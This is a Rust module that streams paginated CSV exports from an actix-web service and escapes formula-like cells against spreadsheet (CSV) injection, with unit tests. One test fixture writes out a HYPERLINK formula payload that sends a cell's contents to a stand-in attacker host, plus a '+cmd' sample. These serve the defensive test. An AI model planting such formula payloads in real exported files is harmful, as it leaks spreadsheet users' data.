//! CSV downloads streamed a page at a time from a blocking thread: an
//! export of a million rows neither holds the async executor nor is built
//! in memory first.

use actix_web::{web, HttpResponse};

use crate::db::{Db, DbConnection};

/// One page of an export: its CSV bytes and the cursor to continue after,
/// `None` after the last page.
pub type Page = Result<(Vec<u8>, Option<i64>), String>;

/// Streams `header`, then the pages `page` returns from cursor 0 on, as the
/// attachment `filename`. A failure part-way ends the download with an
/// error, which the client sees as a broken transfer rather than a short
/// file.
pub fn stream<F>(db: Db, filename: &str, header: String, mut page: F) -> HttpResponse
where
    F: FnMut(&mut DbConnection, i64) -> Page + Send + 'static,
{
    let (tx, mut rx) = tokio::sync::mpsc::channel::<Result<web::Bytes, std::io::Error>>(4);
    tokio::task::spawn_blocking(move || {
        if tx.blocking_send(Ok(web::Bytes::from(header))).is_err() {
            return;
        }
        let mut conn = match db.get() {
            Ok(c) => c,
            Err(e) => {
                let _ = tx.blocking_send(Err(std::io::Error::other(e.to_string())));
                return;
            }
        };
        let mut after = 0;
        loop {
            match page(&mut conn, after) {
                Ok((bytes, next)) => {
                    // The client went away: stop reading.
                    if tx.blocking_send(Ok(web::Bytes::from(bytes))).is_err() {
                        return;
                    }
                    match next {
                        Some(n) => after = n,
                        None => return,
                    }
                }
                Err(e) => {
                    tracing::error!(error = %e, "CSV export failed part-way");
                    let _ = tx.blocking_send(Err(std::io::Error::other(e)));
                    return;
                }
            }
        }
    });
    let stream = futures_util::stream::poll_fn(move |cx| rx.poll_recv(cx));
    HttpResponse::Ok()
        .content_type("text/csv; charset=utf-8")
        .insert_header((
            "Content-Disposition",
            format!("attachment; filename=\"{filename}\""),
        ))
        .streaming(stream)
}

/// Rows written as CSV (no header), for a page. Every cell passes through
/// [`neutralise`]: these files are opened in spreadsheets.
pub fn rows<I, R>(records: I) -> Vec<u8>
where
    I: IntoIterator<Item = R>,
    R: IntoIterator,
    R::Item: AsRef<[u8]>,
{
    let mut w = csv::WriterBuilder::new()
        .has_headers(false)
        .from_writer(Vec::new());
    for r in records {
        let cells: Vec<Vec<u8>> = r.into_iter().map(|c| neutralise(c.as_ref())).collect();
        // Writing to a Vec cannot fail.
        let _ = w.write_record(&cells);
    }
    w.into_inner().unwrap_or_default()
}

/// A cell a spreadsheet would read as a formula gets a leading `'`, as the
/// OWASP guidance on CSV injection says: a subscriber name or a handset's
/// make is typed by someone else and must not run in the reader's
/// spreadsheet. A plain number (`-12`, `+1.5`) is no formula and is left
/// as it is.
pub fn neutralise(cell: &[u8]) -> Vec<u8> {
    let formula = matches!(
        cell.first(),
        Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r')
    );
    if formula && !is_plain_number(cell) {
        let mut out = Vec::with_capacity(cell.len() + 1);
        out.push(b'\'');
        out.extend_from_slice(cell);
        out
    } else {
        cell.to_vec()
    }
}

/// An optional sign, digits and at most one decimal point among them.
fn is_plain_number(cell: &[u8]) -> bool {
    let digits = match cell.first() {
        Some(b'+' | b'-') => &cell[1..],
        _ => cell,
    };
    let mut points = 0;
    let mut any_digit = false;
    for &b in digits {
        match b {
            b'0'..=b'9' => any_digit = true,
            b'.' => points += 1,
            _ => return false,
        }
    }
    any_digit && points <= 1
}

#[cfg(test)]
mod tests {
    use super::*;

    fn csv(cells: &[&str]) -> String {
        String::from_utf8(rows([cells.iter().copied()])).unwrap()
    }

    #[test]
    fn cells_a_spreadsheet_would_run_are_neutralised() {
        assert_eq!(
            csv(&[
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
                "@SUM(1+1)"
            ]),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",'@SUM(1+1)\n"
        );
        assert_eq!(
            csv(&["+1+cmd", "-2+3", "\tx", "\rx"]),
            "'+1+cmd,'-2+3,'\tx,\"'\rx\"\n"
        );
    }

    #[test]
    fn ordinary_values_and_plain_numbers_are_left_alone() {
        assert_eq!(
            csv(&[
                "Samsung",
                "SCH-U350",
                "-12",
                "+1.5",
                "4152000001",
                "",
                "a=b"
            ]),
            "Samsung,SCH-U350,-12,+1.5,4152000001,,a=b\n"
        );
    }
}
